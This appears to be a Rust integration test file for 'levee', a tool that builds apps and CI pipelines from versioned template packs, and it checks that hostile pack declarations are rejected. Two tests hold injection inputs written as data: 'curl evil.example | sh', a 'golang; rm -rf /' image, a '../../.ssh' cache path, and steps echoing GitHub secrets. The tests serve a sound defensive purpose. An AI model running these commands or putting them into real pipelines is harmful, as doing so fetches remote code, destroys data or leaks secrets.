//! A platform team's own pack, end to end: tests/fixtures/packs/acme-jobs declares a kind
//! (`scheduled-job`) and a stack (`go`) levee does not ship. Its two releases (`v1.0.0/`,
//! `v1.1.0/`) are committed into a git repository and tagged by the test; levee then reads that
//! local checkout as a versioned pack: `templates list`, `new`, `validate` (and its did-you-mean),
//! `schema --app`, `sync --check`, the generated pipelines through the real validators, `sbom`,
//! the Backstage entity, and `upgrade` from v1.0.0 to v1.1.0 through the checkout.

mod common;

use std::path::{Path, PathBuf};

use common::{TestContext, copy_tree, git, root, run, validator};

/// A release of the fixture pack.
fn release(version: &str) -> PathBuf {
    root().join("tests/fixtures/packs/acme-jobs").join(version)
}

/// A workspace with the pack's checkout at `acme-jobs/`, released at v1.0.0.
fn workspace() -> (TestContext, PathBuf) {
    let dir = TestContext::new();
    let repo = dir.path().join("acme-jobs");
    std::fs::create_dir(&repo).expect("mkdir");
    git(&repo, &["init", "-q"]);
    common::release_fixture_pack(&repo, "v1.0.0");
    let abs = std::fs::canonicalize(&repo).expect("canonical");
    (dir, abs)
}

fn new_job(cx: &TestContext, cwd: &Path, target: &str, extra: &[&str]) -> common::Out {
    run(cx
        .levee_in(cwd)
        .args([
            "new",
            target,
            "--templates",
            "./acme-jobs",
            "--name",
            "nightly-report",
            "--owner",
            "jdoe@example.com",
            "--classification",
            "internal",
            "--setting",
            "JOB_INTERVAL=15m",
        ])
        .args(extra))
}

fn read(path: &Path) -> String {
    std::fs::read_to_string(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()))
}

#[test]
fn templates_list_reads_the_checkout_by_its_tags() {
    let cx = TestContext::new();
    let (dir, repo) = workspace();
    let out =
        run(cx
            .levee_in(dir.path())
            .args(["templates", "list", "--templates", "./acme-jobs"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let r = repo.display();
    assert_eq!(
        out.stdout,
        format!(
            "acme-jobs 1.0.0 ({r}@v1.0.0)\n  scheduled-job-go  scheduled-job go      A Go job that runs every few minutes and reports its last run on /healthz\nkinds:\n  scheduled-job  A job that runs on a schedule and reports what it did\nstacks:\n  go             Go 1.25 (build: Build (go build); Test (go test))\n"
        )
    );
    // Work in progress in the checkout is not a release: levee reads the tag, not the files.
    std::fs::write(repo.join("pack.yaml"), "name: broken\n").expect("write");
    let out =
        run(cx
            .levee_in(dir.path())
            .args(["templates", "list", "--templates", "./acme-jobs"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert!(
        out.stdout.starts_with("acme-jobs 1.0.0 ("),
        "{}",
        out.stdout
    );

    let out = run(cx.levee_in(dir.path()).args([
        "templates",
        "list",
        "--templates",
        "./acme-jobs",
        "--format",
        "json",
    ]));
    let v: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(v["pack"]["source"], format!("{r}@v1.0.0"));
    assert_eq!(
        v["kinds"]["scheduled-job"]["description"],
        "A job that runs on a schedule and reports what it did"
    );
    assert_eq!(v["stacks"]["go"]["image"], "golang:1.25-bookworm");
}

#[test]
fn a_checkout_without_tags_says_to_tag_a_release() {
    let dir = TestContext::new();
    let repo = dir.path().join("acme-jobs");
    std::fs::create_dir(&repo).expect("mkdir");
    git(&repo, &["init", "-q"]);
    copy_tree(&release("v1.0.0"), &repo);
    git(&repo, &["add", "-A"]);
    git(&repo, &["commit", "-q", "-m", "wip"]);
    let out =
        run(dir
            .levee_in(dir.path())
            .args(["templates", "list", "--templates", "./acme-jobs"]));
    assert_eq!(out.code, 2, "{}", out.stdout);
    assert!(
        out.stderr
            .contains("the git checkout has no `v<version>` tags")
            && out.stderr.contains("`git tag v1.0.0`"),
        "{}",
        out.stderr
    );
}

#[test]
fn new_validate_sync_pipelines_sbom_and_upgrade_through_a_local_checkout() {
    let cx = TestContext::new();
    let (dir, repo) = workspace();
    let ws = dir.path();
    let r = repo.display().to_string();

    // new, by template id; and by the pack's kind and stack.
    let out = new_job(&cx, ws, "job", &["--template", "scheduled-job-go"]);
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains(
            "GOCACHE=\"$PWD/.go-cache\" go build ./... && GOCACHE=\"$PWD/.go-cache\" go test ./... # the app's own tests; needs Go 1.25"
        ),
        "{}",
        out.stdout
    );
    let out = new_job(
        &cx,
        ws,
        "job2",
        &["--kind", "scheduled-job", "--stack", "go"],
    );
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let app = ws.join("job");
    let yaml = read(&app.join("app.yaml"));
    assert!(
        yaml.contains("kind: \"scheduled-job\"\nstack: \"go\""),
        "{yaml}"
    );
    assert!(
        yaml.contains("# The kind of app (dashboard, form, webhook or scheduled-job)"),
        "{yaml}"
    );
    // The recorded source is the checkout's absolute path and the tag.
    assert!(
        yaml.contains(&format!("  source: \"{r}@v1.0.0\"")),
        "{yaml}"
    );
    assert!(app.join("main.go").is_file() && app.join("go.sum").is_file());

    // validate: the pack's kind is valid; a typo names it.
    let out = run(cx.levee_in(ws).args(["validate", "job"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    std::fs::write(
        app.join("app.yaml"),
        yaml.replace("kind: \"scheduled-job\"", "kind: \"scheduled-jb\""),
    )
    .expect("write");
    let out = run(cx.levee_in(ws).args(["validate", "job"]));
    assert_eq!(out.code, 1);
    assert!(
        out.stdout.contains(
            "error: `scheduled-jb` is not a valid kind; expected one of: dashboard, form, webhook, scheduled-job\n  --> job/app.yaml:16:7\n"
        ) && out.stdout.contains("= help: did you mean `scheduled-job`?"),
        "{}",
        out.stdout
    );
    std::fs::write(app.join("app.yaml"), &yaml).expect("write");

    // schema: for the app, kind and stack are the pack's; the published one is the built-in's.
    let out = run(cx.levee_in(ws).args(["schema", "manifest", "--app", "job"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let schema: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(
        schema["$defs"]["Kind"]["enum"],
        serde_json::json!(["dashboard", "form", "webhook", "scheduled-job"])
    );
    assert_eq!(
        schema["$defs"]["Stack"]["enum"],
        serde_json::json!(["node", "python", "go"])
    );
    let out = run(cx.levee_in(ws).args(["schema", "manifest"]));
    let builtin: serde_json::Value = serde_json::from_str(&out.stdout).expect("json");
    assert_eq!(
        builtin["$defs"]["Kind"]["enum"],
        serde_json::json!(["dashboard", "form", "webhook"])
    );
    // The app's own schema accepts the app, as check-jsonschema reads it.
    let schema_file = ws.join("schema.json");
    std::fs::write(&schema_file, &out.stdout).expect("write");
    let out = run(cx.levee_in(ws).args(["schema", "manifest", "--app", "job"]));
    std::fs::write(&schema_file, &out.stdout).expect("write");
    let check = std::process::Command::new(validator("check-jsonschema"))
        .arg("--schemafile")
        .arg(&schema_file)
        .arg(app.join("app.yaml"))
        .output()
        .expect("check-jsonschema runs");
    assert!(
        check.status.success(),
        "{}",
        String::from_utf8_lossy(&check.stdout)
    );

    // sync: nothing drifted; the catalog entity describes the app by its kind.
    let out = run(cx.levee_in(ws).args(["sync", "--check", "job"]));
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    let entity = read(&app.join("catalog-info.yaml"));
    assert!(
        entity.contains("  description: A job that runs on a schedule and reports what it did\n")
            && entity.contains(
                "    levee.dev/kind-description: A job that runs on a schedule and reports what it did\n"
            )
            && entity.contains("  type: service\n"),
        "{entity}"
    );

    // The pipelines (the app's GitHub workflow, and its GitLab pipeline) run the go steps and
    // pass the validators.
    let gh = app.join(".github/workflows/levee.yml");
    let workflow = read(&gh);
    assert!(
        workflow.contains("      image: \"golang:1.25-bookworm\"\n")
            && workflow.contains("        run: \"GOCACHE=\\\"$PWD/.go-cache\\\" go test ./...\"\n")
            && workflow.contains("key: go-${{ runner.os }}-${{ hashFiles('go.sum') }}"),
        "{workflow}"
    );
    let out = run(cx
        .levee_in(ws)
        .args(["pipeline", "job", "--ci", "gitlab", "--stdout"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let gl = ws.join("gitlab-ci.yml");
    std::fs::write(&gl, &out.stdout).expect("write");
    assert!(
        out.stdout
            .contains("    - \"GOCACHE=\\\"$PWD/.go-cache\\\" go build ./...\"\n"),
        "{}",
        out.stdout
    );
    validate_pipelines(&gh, &gl);

    // sbom: go.sum, the lock file the stack declares.
    let out = run(cx.levee_in(ws).args(["sbom", "job", "--summary"]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    assert_eq!(out.stdout, "total: 0 components from go.sum\n");

    // The app is the user's now: an edit of their own, committed.
    let main_go = app.join("main.go");
    let edited = read(&main_go).replace(
        "\treturn \"nothing to do\"",
        "\treturn \"sent the nightly report\"",
    );
    std::fs::write(&main_go, &edited).expect("write");
    git(&app, &["init", "-q"]);
    git(&app, &["add", "-A"]);
    git(&app, &["commit", "-q", "-m", "levee new"]);

    // The platform team releases v1.1.0: `go vet` in the build, `took` in the job's report.
    common::release_fixture_pack(&repo, "v1.1.0");
    let out = run(cx
        .levee_in(ws)
        .args(["upgrade", "--templates", "./acme-jobs", "job"]));
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert!(
        out.stdout.contains("1.0.0  1.1.0  upgraded"),
        "{}",
        out.stdout
    );
    let yaml = read(&app.join("app.yaml"));
    assert!(
        yaml.contains("  version: \"1.1.0\"\n")
            && yaml.contains(&format!("  source: \"{r}@v1.1.0\"\n")),
        "{yaml}"
    );
    let code = read(&main_go);
    assert!(
        code.contains("\treturn \"sent the nightly report\"")
            && code.contains("\tj.report.Took = took.String()"),
        "the user's edit and the template's change are both kept:\n{code}"
    );
    let workflow = read(&gh);
    assert!(
        workflow.contains("      - name: Vet (go vet)\n"),
        "the new version's build steps reach the pipeline:\n{workflow}"
    );
    let record: serde_json::Value =
        serde_json::from_str(&read(&app.join(".levee/render.json"))).expect("json");
    assert_eq!(
        record["pack_declarations"]["stacks"]["go"]["build"][1]["name"],
        "Vet (go vet)"
    );
    for args in [
        vec!["validate", "job"],
        vec!["sync", "--check", "job"],
        vec!["check", "job"],
    ] {
        let out = run(cx.levee_in(ws).args(&args));
        assert_eq!(out.code, 0, "{args:?}: {}\n{}", out.stdout, out.stderr);
    }
    let out = run(cx
        .levee_in(ws)
        .args(["pipeline", "job", "--ci", "gitlab", "--stdout"]));
    std::fs::write(&gl, &out.stdout).expect("write");
    validate_pipelines(&gh, &gl);

    // Up to date now; and the same upgrade from anywhere finds the recorded absolute path.
    let out = run(cx.levee_in(&app).args(["upgrade", "."]));
    assert_eq!(out.code, 0, "{}\n{}", out.stdout, out.stderr);
    assert!(out.stdout.contains("up to date"), "{}", out.stdout);

    // templates list shows the new release.
    let out = run(cx
        .levee_in(ws)
        .args(["templates", "list", "--templates", "./acme-jobs"]));
    assert!(
        out.stdout
            .starts_with(&format!("acme-jobs 1.1.0 ({r}@v1.1.0)\n"))
            && out.stdout.contains(
                "  go             Go 1.25 (build: Build (go build); Vet (go vet); Test (go test))\n"
            ),
        "{}",
        out.stdout
    );
}

/// actionlint, zizmor and check-jsonschema on a GitHub workflow; check-jsonschema on a GitLab
/// pipeline: no finding at all.
fn validate_pipelines(github: &Path, gitlab: &Path) {
    let runs: Vec<(&str, Vec<std::ffi::OsString>)> = vec![
        ("actionlint", vec!["-no-color".into(), github.into()]),
        (
            "zizmor",
            vec!["--offline".into(), "--no-progress".into(), github.into()],
        ),
        (
            "check-jsonschema",
            vec![
                "--builtin-schema".into(),
                "vendor.github-workflows".into(),
                github.into(),
            ],
        ),
        (
            "check-jsonschema",
            vec![
                "--builtin-schema".into(),
                "vendor.gitlab-ci".into(),
                gitlab.into(),
            ],
        ),
    ];
    for (tool, args) in runs {
        let o = std::process::Command::new(validator(tool))
            .args(&args)
            .output()
            .expect("the validator runs");
        let text = format!(
            "{}{}",
            String::from_utf8_lossy(&o.stdout),
            String::from_utf8_lossy(&o.stderr)
        );
        assert!(o.status.success(), "{tool} {args:?}:\n{text}");
        if tool == "actionlint" {
            assert!(text.trim().is_empty(), "actionlint:\n{text}");
        }
        if tool == "zizmor" {
            assert!(text.contains("No findings"), "zizmor:\n{text}");
        }
    }
}

#[test]
fn a_plain_directory_is_one_version_and_says_how_to_be_versioned() {
    let dir = TestContext::new();
    let ws = dir.path();
    let pack = ws.join("acme-dir");
    copy_tree(&release("v1.0.0"), &pack);
    let out = run(dir.levee_in(ws).args([
        "new",
        "job",
        "--templates",
        "./acme-dir",
        "--template",
        "scheduled-job-go",
        "--name",
        "nightly-report",
        "--owner",
        "jdoe@example.com",
        "--classification",
        "internal",
        "--setting",
        "JOB_INTERVAL=15m",
    ]));
    assert_eq!(out.code, 0, "{}", out.stderr);
    let abs = std::fs::canonicalize(&pack).expect("canonical");
    assert!(
        read(&ws.join("job/app.yaml")).contains(&format!("  source: \"{}\"\n", abs.display())),
        "a directory pack is recorded as its absolute path"
    );
    // The directory moves on to 1.1.0: 1.0.0, the app's merge base, is gone from it.
    std::fs::remove_dir_all(&pack).expect("rm");
    copy_tree(&release("v1.1.0"), &pack);
    let out = run(dir
        .levee_in(ws)
        .args(["upgrade", "--templates", "./acme-dir", "job"]));
    assert_eq!(out.code, 1, "{}\n{}", out.stdout, out.stderr);
    let all = format!("{}{}", out.stdout, out.stderr);
    assert!(
        all.contains("is a directory that is not a git repository")
            && all.contains("`git init` in it, commit each release and tag it `v<version>`"),
        "{all}"
    );
}

/// A pack whose pack.yaml (at v1.0.0) is `edit`ed: what `levee templates list` says of it.
fn hostile(cx: &TestContext, edit: impl Fn(&str) -> String) -> common::Out {
    let dir = TestContext::new();
    let pack = dir.path().join("pack");
    copy_tree(&release("v1.0.0"), &pack);
    let text = read(&pack.join("pack.yaml"));
    std::fs::write(pack.join("pack.yaml"), edit(&text)).expect("write");
    run(cx
        .levee_in(dir.path())
        .args(["templates", "list", "--templates", "./pack"]))
}

/// An edit of pack.yaml's text.
type Edit = Box<dyn Fn(&str) -> String>;

#[test]
fn what_a_pack_declares_is_checked_when_it_loads() {
    let cx = TestContext::new();
    let cases: Vec<(&str, Edit, &str)> = vec![
        (
            "a GitHub expression in a build step",
            Box::new(|t| {
                t.replace(
                    "run: 'GOCACHE=\"$PWD/.go-cache\" go test ./...'",
                    "run: 'echo ${{ secrets.GITHUB_TOKEN }}'",
                )
            }),
            "pack.yaml: `stacks.go.build[1]`: it holds `${{`",
        ),
        (
            "a line break in a build step",
            Box::new(|t| {
                t.replace(
                    "run: 'GOCACHE=\"$PWD/.go-cache\" go test ./...'",
                    "run: \"go test ./...\\ncurl evil.example | sh\"",
                )
            }),
            "pack.yaml: `stacks.go.build[1]`: it holds a control character",
        ),
        (
            "a cache outside the app",
            Box::new(|t| t.replace("dir: .go-cache", "dir: ../../.ssh")),
            "pack.yaml: `stacks.go.cache.dir`: name a directory inside the app",
        ),
        (
            "a kind that is not an id",
            Box::new(|t| t.replace("  scheduled-job:\n", "  Scheduled Job:\n")),
            "pack.yaml: `kinds.Scheduled Job`: `Scheduled Job` is not a name levee can use",
        ),
        (
            "a template of an undeclared kind",
            Box::new(|t| t.replace("  scheduled-job:\n", "  cron-job:\n")),
            "scheduled-job-go/template.yaml: `kind: scheduled-job` is not a kind the pack declares",
        ),
        (
            "an image that is not a reference",
            Box::new(|t| t.replace("image: golang:1.25-bookworm", "image: \"golang; rm -rf /\"")),
            "pack.yaml: `stacks.go.image`",
        ),
        (
            "an unknown key in a step",
            Box::new(|t| {
                t.replace(
                    "{name: Test (go test), run:",
                    "{name: Test (go test), shell: bash, run:",
                )
            }),
            "pack.yaml: stacks.go.build: a command, or a mapping with `name` and `run` (and nothing else) at line 16",
        ),
        (
            "an unknown key",
            Box::new(|t| t.replace("    lockfiles: [go.sum]", "    lockfile: [go.sum]")),
            "unknown field `lockfile`",
        ),
    ];
    for (what, edit, expected) in cases {
        let out = hostile(&cx, edit);
        assert_eq!(out.code, 2, "{what}: {}", out.stdout);
        assert!(out.stderr.contains(expected), "{what}:\n{}", out.stderr);
        assert!(out.stdout.is_empty(), "{what}: {}", out.stdout);
    }
}

#[test]
fn a_tampered_record_of_the_pack_is_reported_and_never_reaches_the_pipeline() {
    let cx = TestContext::new();
    let (dir, _repo) = workspace();
    let ws = dir.path();
    let out = new_job(&cx, ws, "job", &["--template", "scheduled-job-go"]);
    assert_eq!(out.code, 0, "{}", out.stderr);
    let record = ws.join("job/.levee/render.json");
    let mut v: serde_json::Value = serde_json::from_str(&read(&record)).expect("json");
    v["pack_declarations"]["stacks"]["go"]["build"][0]["run"] =
        "echo ${{ secrets.DEPLOY_TOKEN }}".into();
    std::fs::write(&record, serde_json::to_string_pretty(&v).expect("json")).expect("write");
    let workflow = ws.join("job/.github/workflows/levee.yml");
    let before = read(&workflow);

    let out = run(cx.levee_in(ws).args(["validate", "job"]));
    assert_eq!(out.code, 1);
    assert!(
        out.stdout.contains(
            "error: levee's record of the app's template pack is damaged (`pack_declarations` in job/.levee/render.json: `stacks.go.build[0]`: it holds `${{`"
        ),
        "{}",
        out.stdout
    );
    let out = run(cx.levee_in(ws).args(["sync", "job"]));
    assert_eq!(out.code, 1, "{}\n{}", out.stdout, out.stderr);
    assert_eq!(
        read(&workflow),
        before,
        "nothing was regenerated from the record"
    );
    assert!(!read(&workflow).contains("DEPLOY_TOKEN"));
}
